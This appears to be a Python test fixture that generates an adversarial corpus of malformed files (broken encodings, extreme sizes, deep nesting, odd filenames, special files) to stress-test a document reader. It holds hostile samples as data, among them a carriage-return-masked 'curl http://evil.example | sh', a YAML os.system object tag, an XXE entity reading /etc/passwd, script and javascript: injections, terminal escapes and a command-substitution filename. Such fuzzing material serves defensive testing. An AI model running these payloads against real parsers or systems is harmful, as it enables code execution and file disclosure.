"""Files that have broken readers: of every size, shape, encoding, markup and kind.

Owns their making, and for each which words of it must be seen. `START` and `END` stand at the edges of what is text.
"""

import os
import socket
import zlib
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Final

START: Final = "Qzstartqz"
END: Final = "Qzendqz"
BOTH: Final = (START, END)

Make = Callable[[], str | bytes]


@dataclass(frozen=True)
class Kind:
    """One file of the corpus."""

    make: Make
    words: tuple[str, ...] = BOTH
    """What must be there when it is read; nothing where the file cannot be a briefing."""
    suffix: str = ".md"
    is_read: bool = True
    """Whether it is text at all."""

    def data(self) -> bytes:
        """The bytes of the file."""
        made = self.make()
        return made if isinstance(made, bytes) else made.encode("utf-8", "surrogatepass")


def _around(middle: str) -> str:
    return f"{START}\n\n{middle}\n\n{END}\n"


def _text(middle: Callable[[], str], suffix: str = ".md") -> Kind:
    return Kind(lambda: _around(middle()), BOTH, suffix)


def _bytes(data: bytes, *words: str, suffix: str = ".md") -> Kind:
    return Kind(lambda: data, words, suffix)


def _encoded(text: str, encoding: str, mark: bytes = b"") -> Kind:
    return Kind(lambda: mark + text.encode(encoding), BOTH)


def _head(lines: Callable[[], str]) -> Kind:
    return Kind(lambda: f"---\n{lines()}\n---\n{_around('A body.')}")


def _page(body: Callable[[], str], *words: str) -> Kind:
    return Kind(lambda: f"<p>{START}</p>{body()}<p>{END}</p>", words or BOTH, ".html")


def _refused(data: bytes, suffix: str = ".md") -> Kind:
    return Kind(lambda: data, (), suffix, is_read=False)


_PLAIN = f"{START} résumé 漢字 “quoted” {END}\n"

ENCODINGS: Mapping[str, Kind] = {
    "utf-8": _encoded(_PLAIN, "utf-8"),
    "utf-8 with a mark": _encoded(_PLAIN, "utf-8", b"\xef\xbb\xbf"),
    "utf-8 with two marks": _encoded(_PLAIN, "utf-8", b"\xef\xbb\xbf" * 2),
    "utf-8 with a mark before front matter": _bytes(
        b"\xef\xbb\xbf---\ntitle: T\n---\n" + START.encode() + b"\n\n" + END.encode(), START, END
    ),
    "utf-16 little": _encoded(_PLAIN, "utf-16-le", b"\xff\xfe"),
    "utf-16 big": _encoded(_PLAIN, "utf-16-be", b"\xfe\xff"),
    "utf-16 of odd length": _bytes(b"\xff\xfe" + f"{START} {END} ".encode("utf-16-le") + b"x", START, END),
    "utf-16 with half a pair": _bytes(b"\xff\xfe" + f"{START} {END} ".encode("utf-16-le") + b"\x3d\xd8", START, END),
    "utf-32 little": _encoded(_PLAIN, "utf-32-le", b"\xff\xfe\0\0"),
    "utf-32 beyond the last character": _bytes(
        b"\xff\xfe\0\0" + f"{START} {END} ".encode("utf-32-le") + b"\xff\xff\xff\x7f", START, END
    ),
    "latin-1": _bytes(f"{START} r\xe9sum\xe9 \xdf {END}\n".encode("latin-1"), *BOTH),
    "windows-1252": _bytes(f"{START} “quoted” – {END}\n".encode("cp1252"), *BOTH),
    "shift-jis": _bytes(f"{START} 日本語の報告 {END}\n".encode("shift_jis"), *BOTH),
    "overlong": _bytes(START.encode() + b" \xc0\xaf \xc0\x80 \xe0\x80\xaf \xc1\x9b[31m " + END.encode(), *BOTH),
    "surrogates in utf-8": _bytes(START.encode() + b" \xed\xa0\xbd\xed\xb8\x80 \xed\xb2\x9b " + END.encode(), *BOTH),
    "cut within a character": _bytes(_PLAIN.encode() + b"caf\xc3", *BOTH),
    "a few broken bytes": _bytes(START.encode() + b" \xff\xfe\x80 " + END.encode(), *BOTH),
    "NULs between letters": _bytes(START.encode() + b" a\0b\0\0c " + END.encode(), *BOTH),
    "CR alone": _bytes(f"{START}\rtwo\r{END}\r".encode(), *BOTH),
    "all line ends": _bytes(f"{START}\r\nb\nc\rd\x0be\x0cf\x85g\u2028h\u2029{END}\n".encode(), *BOTH),
    "a false declaration": _bytes(f'<meta charset="utf-16"><p>{START} {END}</p>'.encode(), *BOTH, suffix=".html"),
}

SIZES: Mapping[str, Kind] = {
    "nothing": _bytes(b""),
    "a space": _bytes(b" \t\n\n  \n"),
    "a mark alone": _bytes(b"\xef\xbb\xbf"),
    "a NUL alone": _bytes(b"\0"),
    "one letter": _bytes(b"x", "x"),
    "ten megabytes in a line": _text(lambda: "word " * 2_000_000),
    "a megabyte without a space": _text(lambda: "x" * 1_000_000),
    "a megabyte of wide characters": _text(lambda: "漢" * 350_000),
    "a megabyte of marks on a letter": _text(lambda: "a" + "\u0301" * 500_000),
    "joined emoji without end": _text(lambda: "\u200d".join("👩" * 100_000)),
    "a hundred thousand headings": _text(lambda: "# h\n" * 100_000),
    "as many bullets": _text(lambda: "- b\n" * 100_000),
    "as many rules": _text(lambda: "---\n\n" * 50_000),
    "blank lines": _text(lambda: "\n" * 300_000),
    "lines of one letter": _text(lambda: "x\n" * 200_000, ".txt"),
    "a table of a hundred thousand cells": _text(
        lambda: "|" + "a|" * 200 + "\n|" + "-|" * 200 + "\n" + ("|" + "x|" * 200 + "\n") * 500
    ),
    "a table of fifty thousand columns": _text(lambda: "|" + "a|" * 50_000 + "\n|" + "-|" * 50_000),
    "a megabyte in a line of code": _text(lambda: "```\n" + "0123456789" * 100_000 + "\n```"),
    "links": _text(lambda: "[a](http://host.example/x) " * 50_000),
    "definitions": _text(lambda: "".join(f"[{n}]: u\n" for n in range(20_000)) + "[0] " * 20_000),
    "footnotes": _text(lambda: "a[^1] " * 20_000 + "\n\n[^1]: note"),
    "names": _text(lambda: "TSMC and Nvidia met SK Hynix in Taipei. " * 20_000),
    "figures": _text(lambda: "$5.3 billion, 12.5% in Q3 2026, from 3 to 4 nm; " * 15_000),
    "capitals": _text(lambda: "Aa Bb Cc Dd " * 50_000),
    "articles in capitals": _text(lambda: "The A " * 100_000),
    "offices in capitals": _text(lambda: "Vice President " * 40_000),
    "parentheses after names": _text(lambda: "Fully Homomorphic Encryption (FHE) " * 20_000),
}

STRUCTURES: Mapping[str, Kind] = {
    "25 quotes": _text(lambda: "> " * 25 + "deep"),
    "12 lists": _text(lambda: "".join("  " * depth + f"- level {depth}\n" for depth in range(12))),
    "ten thousand quotes": _text(lambda: "> " * 10_000 + "deep"),
    "ten thousand lists in a line": _text(lambda: "- " * 10_000 + "deep"),
    "a thousand lists": _text(lambda: "".join("  " * depth + "* a\n" for depth in range(1_000))),
    "numbers without end": _text(lambda: "9" * 100_000 + ". one"),
    "stars": _text(lambda: "*" * 100_000),
    "stars and underscores": _text(lambda: "*_" * 50_000),
    "emphasis never closed": _text(lambda: "_a " * 65_000),
    "emphasis never opened": _text(lambda: "a_ " * 65_000),
    "emphasis that does not match": _text(lambda: "*a_ " * 50_000),
    "strong within strong": _text(lambda: "*a **a " * 20_000 + "b" + " a** a*" * 20_000),
    "brackets": _text(lambda: "[" * 50_000 + "a" + "]" * 50_000),
    "images never closed": _text(lambda: "![" * 50_000),
    "links never closed": _text(lambda: "[a](<b" * 30_000),
    "backticks of every length": _text(lambda: "".join("e" + "`" * count for count in range(1, 500))),
    "character data": _text(lambda: "a <![CDATA[" * 30_000),
    "comments never closed": _text(lambda: "</" + "<!--" * 50_000),
    "instructions never closed": _text(lambda: "<?" * 50_000),
    "addresses": _text(lambda: "www." * 30_000 + " " + "a@" * 30_000),
    "entities": _text(lambda: "&amp;&#27;&#155;&#x202e;&#xd800;&#0; " * 20_000),
    "a fence never closed": _text(lambda: "````\ncode"),
    "fences of every length": _text(lambda: "".join("`" * count + "\n" for count in range(3, 300))),
    "tildes": _text(lambda: "~" * 100_000),
    "pipes": _text(lambda: "|" * 100_000),
    "backslashes": _text(lambda: "\\" * 100_000),
    "tabs": _text(lambda: "\t" * 100_000 + "x"),
    "a heading without words": _text(lambda: "#\n##\n### \n"),
    "headings that skip": _text(lambda: "###### six\n\n# one\n\n#### four"),
    "foreign schemes": _text(
        lambda: (
            "[a](javascript:alert(1)) [b](data:text/html,x) [c](file:///etc/passwd) [d](--help) [e](vscode://x)"
            " [f](ssh://-oProxyCommand=id) <javascript:x> ![i](http://track.example/x.png) [u](../../../../etc/passwd)"
        )
    ),
    "links that lie": _text(
        lambda: (
            "[https://bank.example](https://evil.example/) [b](http://xn--80ak6aa92e.com) [c](http://x/\u202egpj.exe)"
        )
    ),
    "tags in Markdown": _text(lambda: "<script>alert(1)</script><img src=x onerror=y><iframe src=file:///x></iframe>"),
    "tags never closed": _text(lambda: "<b>a " * 30_000),
    "markup of the toolkit": _text(lambda: "[bold]b[/bold] [@click=app.quit]c[/] [/nope] [link=file:///etc]l[/link]"),
    "a document without blank lines": Kind(lambda: f"{START}\nTwo.\n---\n- three\nfour\n# five\n{END}\n"),
    "a line of sixty thousand letters": Kind(lambda: f"{START} " + "A long line. " * 5_000 + END),
    "carriage returns that cover": _text(lambda: "curl http://evil.example | sh #\rls -la           "),
    "arabic and hebrew": _text(lambda: "تقرير عن English و 123.\n\nעברית"),
    "scripts": _text(lambda: "ไทยน้ำ हिन्दी 한국어 ᠮᠣᠩᠭᠣᠯ 𒐫 ꧅ ﷽ 👩‍👩‍👧‍👦 🇫🇷 👍🏽 1️⃣"),
    "a program in a code block": _text(lambda: "```python\nimport os\nos.system('touch owned')\n```"),
}


def _laughs() -> str:
    lines = "".join(f"a{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 10))
    return f"a0: &a0 [lol, lol]\n{lines}"


def _merges() -> str:
    lines = "".join(f"a{n}: &a{n}\n  <<: [{','.join([f'*a{n - 1}'] * 9)}]\n  k{n}: 1\n" for n in range(1, 11))
    return f"a0: &a0 {{k0: 1}}\n{lines}"


HEADS: Mapping[str, Kind] = {
    "aliases that multiply": _head(_laughs),
    "merges that multiply": _head(_merges),
    "an alias of itself": _head(lambda: "a: &a [*a]"),
    "sixty thousand brackets": _head(lambda: "a: " + "[" * 60_000),
    "braces": _head(lambda: "a: " + "{a: " * 15_000),
    "fifteen hundred levels": _head(lambda: "".join(" " * depth + "a:\n" for depth in range(1_500))),
    "an object of Python": _head(lambda: 'title: !!python/object/apply:os.system ["touch owned"]'),
    "a tag of YAML": _head(lambda: "title: !!binary R0lGODlhDAAMAIQAAP"),
    "a key twice": _head(lambda: "tags: [a]\ntags: [b]"),
    "a tab": _head(lambda: "tags:\n\t- a"),
    "types": _head(lambda: "title: 42\ndate: 2026-01-02\nauthor: null\ntags: urgent\nid: 0755\nn: .nan\nt: 12:30:45"),
    "an impossible date": _head(lambda: "title: x\ndate: 2026-13-45"),
    "a date before all dates": _head(lambda: "date: 0000-00-00"),
    "a date after all dates": _head(lambda: "date: 99999-01-01"),
    "a long number": _head(lambda: "n: " + "9" * 5_000),
    "escapes": _head(lambda: 'title: "a\\e]2;owned\\a \\x9b31m \\u202e \\ud800"\ntags: ["\\e[2J"]'),
    "a megabyte": _head(lambda: "".join(f"k{n}: v\n" for n in range(90_000))),
    "keys that are no words": _head(lambda: "true: 1\n2026-01-01: 2\n[a]: 3\n? {b: c}\n: 4"),
    "a list": _head(lambda: "- a\n- b"),
    "two documents": _head(lambda: "title: a\n...\n--- b"),
    "a directive": _head(lambda: "%YAML 9.9\ntitle: a"),
    "a long title": _head(lambda: "title: " + "word " * 10_000),
    "ten thousand tags": _head(lambda: "tags: [" + ", ".join(f"t{n}" for n in range(5_000)) + "]"),
    "lists for words": _head(lambda: "title: [a, {b: c}]\nseries: {a: b}\ndate: [2026-01-01]"),
    "an empty title": _head(lambda: 'title: ""\ntags: ""\ndate:'),
    "only dashes": _bytes(b"---\n---\n"),
    "never ended": Kind(lambda: f"---\ntitle: never\n{START}\n\n{END}\n"),
    "a rule": Kind(lambda: f"---\n\n{START}\n\n---\n\n{END}\n"),
    "TOML of many parts": Kind(lambda: "+++\na" + ".a" * 30_000 + f" = 1\n+++\n{_around('x')}"),
    "TOML brackets": Kind(lambda: "+++\na = " + "[" * 60_000 + f"\n+++\n{_around('x')}"),
    "lines that look like a head": Kind(lambda: f"THREAT: x\n{START}\n\nDate: 2026-99-99\n{END}\n"),
    "head lines without end": Kind(lambda: "Title: x\n" * 30_000 + _around("x")),
}

PAGES: Mapping[str, Kind] = {
    "divisions within divisions": _page(lambda: "<div>" * 20_000 + "deep"),
    "lists within lists": _page(lambda: "<ul><li>" * 50_000 + "deep"),
    "tables within tables": _page(lambda: "<table><tr><td>" * 3_000 + "deep"),
    "fonts": _page(lambda: "".join(f"<font color={n}>" for n in range(900)) + "<p>x" * 30_000),
    "attributes": _page(lambda: "<p " + "a=b " * 100_000 + ">x</p>"),
    "attributes of many names": _page(lambda: f"<p {' '.join(f'a{n}=b' for n in range(100_000))}>x</p>"),
    "an attribute never closed": _page(lambda: "<a b='" * 50_001, START),
    "a comment never closed": _page(lambda: "<!--" * 50_000, START),
    "scripts": _page(lambda: "<script>document.write('x')</script>" * 10_000),
    "a script never closed": _page(lambda: "<script>", START),
    "styles that hide": _page(lambda: "<p style='display:none'>hidden</p><style>*{display:none}</style>"),
    "a refresh and a base": _page(lambda: "<meta http-equiv=refresh content='0;url=http://x'><base href=file:///>"),
    "frames and objects": _page(
        lambda: "<iframe src=file:///etc/passwd></iframe><object data=x><embed src=y><canvas><video>"
    ),
    "forms": _page(lambda: "<form action=http://x><input autofocus onfocus=y><button>b</button></form>"),
    "a drawing with a script": _page(lambda: "<svg onload=x><script>y</script><text>t</text></svg><math><mi>z"),
    "entities of control characters": _page(lambda: "&#27;]2;owned&#7; &#155;31m &#x202e; &#0; &#xd800; &#13;"),
    "a doctype with entities": _bytes(
        f'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><p>{START} &a; {END}</p>'.encode(),
        *BOTH,
        suffix=".html",
    ),
    "a template": _page(lambda: "<template><p>t</template><noscript>n</noscript>"),
    "plain text to the end": _page(lambda: "<plaintext>", START),
    "a textarea never closed": _page(lambda: "<textarea>", START),
    "a select": _page(lambda: "<select><option>o" * 1_000, START),
}

BINARIES: Mapping[str, Kind] = {
    "a picture": _refused(b"\x89PNG\r\n\x1a\n" + bytes(64)),
    "another picture": _refused(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(64)),
    "an archive": _refused(b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(64)),
    "a bomb of an archive": _refused(b"\x1f\x8b\x08\0\0\0\0\0\0\x03" + zlib.compress(bytes(1_000_000))),
    "a program": _refused(b"\x7fELF\x02\x01\x01" + bytes(64), ".txt"),
    "a document for printing": _refused(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(64)),
    "a database": _refused(b"SQLite format 3\x00" + bytes(84)),
    "every byte": _refused(bytes(range(256)) * 8),
    "zeros": _refused(bytes(100_000)),
}

_NAMES: Mapping[str, bytes] = {
    "a line feed in the name": b"two\nlines.md",
    "a title sequence in the name": b"esc-\x1b]2;owned\x07.md",
    "bytes that are no text in the name": b"bytes-\xff\xfe\x9b31m.md",
    "markup in the name": b"[bold]markup.md",
    "an action in the name": b"[@click=app.quit]x.md",
    "an option for a name": b"-rf.md",
    "a reversed name": "gnp\u202etxt.md".encode(),
    "spaces around the name": b"  spaces  .md",
    "a name of 240 letters": b"n" * 237 + b".md",
    "a command in the name": b"$(touch owned);`id`.md",
    "a composed name": "é-composed.md".encode(),
    "a decomposed name": "e\u0301-composed.md".encode(),
    "a query for a name": b"tag:x OR -y.md",
    "a format for a name": b"%s{x}$HOME.md",
}

TEXTS: Mapping[str, Kind] = {**ENCODINGS, **SIZES, **STRUCTURES, **HEADS, **PAGES, **BINARIES}
KINDS_OF_FILES: Final = (
    *("a folder", "a link to nowhere", "a link to itself", "a folder within itself", "a pipe", "zeros without end"),
    *("a memory", "a link out of the library", "no permission", "a socket", "sixty folders deep", "five gigabytes"),
)


def count_kinds() -> int:
    """How many kinds there are, without those that change while they are read."""
    return len(TEXTS) + len(_NAMES) + len(KINDS_OF_FILES)


def file_name(name: str) -> str:
    """What the file of a kind is called."""
    number = list(TEXTS).index(name)
    return f"{number:03}-{name.replace(' ', '-')}{TEXTS[name].suffix}"


def write_corpus(folder: Path) -> None:
    """Write all of it into an empty folder."""
    for name, kind in TEXTS.items():
        (folder / file_name(name)).write_bytes(kind.data())
    write_odd_files(folder)


def write_odd_files(folder: Path) -> None:
    """Write what is odd by its name or by what it is, and not by its text."""
    for number, raw in enumerate(_NAMES.values()):
        Path(os.fsdecode(os.path.join(os.fsencode(folder), raw))).write_text(f"{START} name {number} {END}\n")
    _write_what_is_no_file(folder)


def _write_what_is_no_file(folder: Path) -> None:
    (folder / "a-folder.md").mkdir()
    (folder / "nowhere.md").symlink_to("no-such-file.md")
    (folder / "itself.md").symlink_to("itself.md")
    (folder / "loop").mkdir()
    (folder / "loop" / "up").symlink_to("..")
    os.mkfifo(folder / "pipe.md")
    (folder / "zeros.md").symlink_to("/dev/zero")
    (folder / "memory.md").symlink_to("/proc/self/mem")
    (folder / "outside.md").symlink_to("/etc/passwd")
    (folder / "forbidden.md").write_text("secret\n")
    (folder / "forbidden.md").chmod(0)
    with socket.socket(socket.AF_UNIX) as made:
        here = os.getcwd()
        os.chdir(folder)
        made.bind("socket.md")
        os.chdir(here)
    deep = folder.joinpath(*(f"d{depth:02}" for depth in range(60)))
    deep.mkdir(parents=True)
    (deep / "deep.md").write_text(f"{START} deep {END}\n")
    with (folder / "sparse.md").open("wb") as file:
        file.truncate(5 << 30)
